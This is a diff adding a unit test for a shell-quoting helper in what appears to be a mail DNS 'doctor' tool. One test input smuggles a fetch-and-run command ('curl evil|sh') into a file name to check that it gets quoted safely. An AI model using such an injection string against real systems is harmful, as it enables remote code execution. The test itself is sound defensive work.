@@ -43,6 +43,26 @@ static const struct spf_case spf_cases[] = {
 	{ "del", "v=spf1 a\x7f -all", NULL },
 };
 
+/* A file name in a fix: line stays one word, never a command. */
+static void
+test_shell_word(void **state)
+{
+	char out[64];
+
+	(void)state;
+	assert_true(doctor_shell_word("/var/lib/tern/dkim/a.org/s1.key", out,
+	    sizeof(out)));
+	assert_string_equal(out, "/var/lib/tern/dkim/a.org/s1.key");
+	assert_true(doctor_shell_word("/d/x;curl evil|sh;.key", out,
+	    sizeof(out)));
+	assert_string_equal(out, "'/d/x;curl evil|sh;.key'");
+	assert_true(doctor_shell_word("/d/it's $(x)", out, sizeof(out)));
+	assert_string_equal(out, "'/d/it'\\''s $(x)'");
+	assert_true(doctor_shell_word("", out, sizeof(out)));
+	assert_string_equal(out, "''");
+	assert_false(doctor_shell_word("a b c d e f", out, 8));
+}
+
 static void
 test_spf_suggest(void **state)
 {
@@ -172,6 +192,7 @@ int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_shell_word),
 		cmocka_unit_test(test_spf_suggest),
 		cmocka_unit_test(test_spf_suggest_bound),
 		cmocka_unit_test(test_sts),
